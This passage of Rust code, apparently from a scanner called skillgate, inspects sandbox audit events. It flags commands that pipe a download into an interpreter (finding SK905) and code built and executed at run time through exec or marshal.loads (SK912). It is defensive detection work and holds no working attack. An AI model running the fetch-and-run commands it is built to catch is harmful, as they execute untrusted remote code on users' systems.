                        ),
                    )
                    .with_capability(Capability::ProcExec)
                    .with_evidence(&commands.join(" | ")),
                );
            }
            _ => {}
        }
    }
}

/// Code built at run time and executed (audit `exec` of a string, `marshal.loads`, code objects
/// built by hand), and the process and network intents WASI could not carry out.
fn runtime_code(evidence: &Evidence, findings: &mut Vec<Finding>, caps: &mut BTreeSet<Capability>) {
    let mut reported = false;
    for event in &evidence.events {
        let EventKind::Audit { event: name, args } = &event.kind else {
            continue;
        };
        if AUDIT_PROCESS.contains(&name.as_str()) {
            caps.insert(Capability::ProcExec);
            if PIPED_DOWNLOAD.is_match(args) {
                caps.insert(Capability::CodeDynamic);
                let what = format!("{name}({})", skillgate_model::finding::clip(args, 200));
                findings.push(
                    finding(
                        "SK905",
                        Severity::High,
                        Confidence::High,
                        format!(
                            "a command that pipes a download into an interpreter: {what}{}",
                            step_label(evidence, event)
                        ),
                    )
                    .with_capability(Capability::CodeDynamic)
                    .with_stage(KillChainStage::Execution)
                    .with_evidence(&what),
                );
            }
        }
        if AUDIT_NETWORK.contains(&name.as_str()) {
            caps.insert(Capability::NetEgress);
        }
        let runtime = matches!(name.as_str(), "exec" | "marshal.loads" | "code.__new__");
        if runtime && !reported {
            reported = true;
            caps.insert(Capability::CodeDynamic);
            findings.push(
                finding(
                    "SK912",
                    Severity::Low,
                    Confidence::High,
                    format!("{}{}", describe(event), step_label(evidence, event)),
                )
                .with_capability(Capability::CodeDynamic)
                .with_stage(KillChainStage::Execution)
                .with_evidence(&format!(
                    "{name}({})",
                    skillgate_model::finding::clip(args, 200)
                )),
            );
        }
    }
}
